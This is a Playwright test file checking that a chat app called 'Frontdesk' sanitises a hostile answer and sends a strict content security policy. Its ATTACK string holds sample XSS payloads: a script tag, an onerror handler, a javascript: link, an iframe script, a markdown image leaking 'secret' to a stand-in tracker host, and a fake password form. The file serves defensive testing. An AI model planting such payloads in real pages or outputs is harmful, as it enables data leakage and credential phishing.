import pytest
from playwright.sync_api import Page

from tests.journeys.acts import answer, ask, state

pytestmark = pytest.mark.journey

ATTACK = """<script>document.title = 'taken'</script>
<img src="https://tracker.example/a.png" onerror="document.title='taken'">
![secret](https://tracker.example/b.png?q=secret) [click](javascript:document.title='taken')
<iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>
<form action="https://tracker.example"><input name="password"><button>Sign in</button></form>
<div style="background:url(https://tracker.example/c.png)" class="composer">x</div>

[there](https://example.org)
"""


def test_a_hostile_answer_runs_nothing_and_loads_nothing(page: Page):
    """The page fixture also fails on any request to another address and on any violation of the policy."""
    ask(page, ATTACK)
    state(page, "Done")

    assert page.title() == "Frontdesk"
    assert answer(page).locator("img, script, iframe, form, input, [style], [onerror]").count() == 0
    link = answer(page).get_by_role("link", name="there")
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
    assert answer(page).get_by_role("link", name="click").count() == 0


def test_the_policy_is_on_the_page(page: Page):
    response = page.goto(page.url)

    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "require-trusted-types-for 'script'" in policy
    assert "unsafe" not in policy
